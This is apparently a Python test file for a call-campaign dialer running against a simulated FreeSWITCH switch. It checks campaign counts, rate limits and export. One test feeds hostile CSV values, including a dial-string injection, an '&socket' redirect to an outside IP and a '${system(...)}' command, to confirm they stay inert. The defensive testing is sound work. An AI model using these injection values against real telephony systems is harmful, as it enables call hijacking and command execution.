"""A whole campaign against the FreeSWITCH stand-in on PostgreSQL: counts, limits, safety, export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from app.dialer.campaigns import CampaignOptions, export_results, import_campaign
from app.dialer.dialer_setup import DialerConfig
from app.domain import decode_call_variables as decode_variables
from app.sim.switch import Endpoint
from app.store import upgrade
from app.store.campaigns import CampaignStore

from .stand_in import connected_dialer, controller_socket, csv_text, run_in_greenlet, running_switch
from .switch_monitor import SwitchMonitor

GOOD = 950
BUSY, NO_ANSWER, REJECTED = 0, 1, 2  # i % 20 picks what the far end of contact i does


def number(i: int) -> str:
    return f"212555{i:04d}"


def formatted(i: int) -> str:
    digits = number(i)
    return [digits, f"({digits[:3]}) {digits[3:6]}-{digits[6:]}", f"+1 {digits}", f"1-{digits}"][i % 4]


def build_rows() -> tuple[list[dict[str, str]], frozenset[str]]:
    rows = [{"phone": formatted(i), "name": f"Person {i}", "note": f"row {i}"} for i in range(GOOD)]
    bad = (
        [{"phone": f"555-01{i:02d}", "name": "too short", "note": ""} for i in range(10)]
        + [{"phone": f"+1 555 000 {i:04d}", "name": "no such area", "note": ""} for i in range(10)]
        + [{"phone": formatted(i), "name": "again", "note": ""} for i in range(3, 18)]
        + [{"phone": f"(646) 555-{i:04d}", "name": "dnc", "note": ""} for i in range(10)]
        + [{"phone": "", "name": "missing", "note": ""} for _ in range(5)]
    )
    # Bad rows spread through the file, every 19th line.
    for offset, row in enumerate(bad):
        rows.insert(offset * 19 + 7, row)
    dnc = frozenset(f"+1646555{i:04d}" for i in range(10))
    return rows, dnc


def alternatives(kind: int) -> str:
    return r"\+1(" + "|".join(number(i) for i in range(GOOD) if i % 20 == kind) + r")$"


def test_thousand_row_campaign_completes_with_exact_counts_within_limits(
    postgres_url: str, tmp_path: Path
) -> None:
    upgrade(postgres_url)
    store = CampaignStore.open(postgres_url)
    rows, dnc = build_rows()
    assert len(rows) == 1000
    options = CampaignOptions(
        name="reminders", flow="appointment_reminder", max_concurrent=12, cps=60.0, retries=1, retry_delay_s=0
    )
    campaign_id, report = import_campaign(
        store, csv_text(rows, ["phone", "name", "note"]), options, now=datetime.now(UTC), do_not_call=dnc
    )
    assert (len(report.contacts), len(report.rejected)) == (GOOD, 50)

    monitor = SwitchMonitor()
    with running_switch() as switch, controller_socket(switch):
        switch.add_endpoint(alternatives(BUSY), Endpoint(result="USER_BUSY"))
        switch.add_endpoint(alternatives(NO_ANSWER), Endpoint(result="NO_ANSWER", answer_delay=0.05))
        switch.add_endpoint(alternatives(REJECTED), Endpoint(result="CALL_REJECTED"))
        switch.add_endpoint(r".", Endpoint(result="answer", hangup_after=0.25))
        watcher = monitor.connect(switch.esl_port, switch.password)
        config = DialerConfig(max_cps=1000)
        with connected_dialer(store, switch, campaign_id, config) as connected:
            summary = run_in_greenlet(connected.dialer, timeout=100)
        watcher.stop()

    per_kind = GOOD // 20 + (1 if GOOD % 20 > 0 else 0)  # 48 numbers each for kinds 0, 1 and 2
    assert store.counts(campaign_id) == {
        "done:answered": GOOD - 3 * per_kind,
        "done:busy": per_kind,
        "done:no_answer": per_kind,
        "done:failed": per_kind,
        "rejected:invalid": 20,
        "rejected:duplicate": 15,
        "rejected:do_not_call": 10,
        "rejected:missing": 5,
    }
    attempts = store.attempts(campaign_id)
    assert summary.dialled == len(attempts) == GOOD + 2 * per_kind  # busy and no-answer tried twice
    assert store.campaign(campaign_id).status == "completed"

    # As the switch saw it: never more live calls than allowed, never faster than the rate.
    assert 0 < monitor.peak <= options.max_concurrent
    # Each number was dialled as many times as its attempts say, never more.
    first_legs = {a.uuid for a in attempts}
    dialled = [callee for _, _, callee in monitor.first_legs(first_legs)]
    assert len(dialled) == len(attempts)
    assert len(set(dialled)) == GOOD

    out = tmp_path / "results.csv"
    assert export_results(store, campaign_id, out) == 1000
    exported = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    by_number = {row["number"]: row for row in exported if row["state"] == "done"}
    busy = by_number["+1" + number(20)]
    assert (busy["outcome"], busy["attempts"], busy["hangup_cause"]) == ("busy", "2", "USER_BUSY")
    answered = by_number["+1" + number(5)]
    assert (answered["outcome"], answered["gateway"], answered["job_result"][:3]) == (
        "answered",
        "twilio",
        "+OK",
    )
    assert '"name": "Person 5"' in answered["variables"]
    assert sorted(int(row["line"]) for row in exported) == list(range(2, 1002))
    store.close()


def test_hostile_csv_values_cannot_alter_the_dial_string(postgres_url: str) -> None:
    upgrade(postgres_url)
    store = CampaignStore.open(postgres_url)
    hostile = [
        "x,origination_uuid=00000000-0000-0000-0000-000000000000",
        "}sofia/gateway/evil/+19005550100|{a=b",
        "' &socket(6.6.6.6:6 async full)'",
        "${system(touch /tmp/pwned)}",
        'line\nbreak "quoted" \\ back [x] ^^:',
    ]
    rows = [{"phone": number(i), "payload": value} for i, value in enumerate(hostile)]
    options = CampaignOptions(name="hostile", max_concurrent=5, cps=50.0, retries=0)
    campaign_id, report = import_campaign(
        store, csv_text(rows, ["phone", "payload"]), options, now=datetime.now(UTC)
    )
    assert len(report.contacts) == len(hostile)

    with running_switch() as switch, controller_socket(switch):
        switch.add_endpoint(r".", Endpoint(result="answer", hangup_after=0.05))
        config = DialerConfig(max_cps=1000)
        with connected_dialer(store, switch, campaign_id, config) as connected:
            run_in_greenlet(connected.dialer, timeout=60)
        calls = {a.line: switch.find_call(a.uuid) for a in store.attempts(campaign_id)}

    assert store.counts(campaign_id) == {"done:answered": len(hostile)}
    for line, sim_call in calls.items():
        i = line - 2
        assert sim_call is not None, f"line {line}: no channel with the attempt's uuid"
        variables = sim_call.variables
        assert variables["sip_gateway_name"] == "twilio"
        assert variables["callbridge_callee"] == "+1" + number(i)
        assert sim_call.channel.name.endswith("+1" + number(i))
        assert decode_variables(variables) == {"payload": hostile[i]}
        assert variables["socket_host"] == "127.0.0.1"
    store.close()
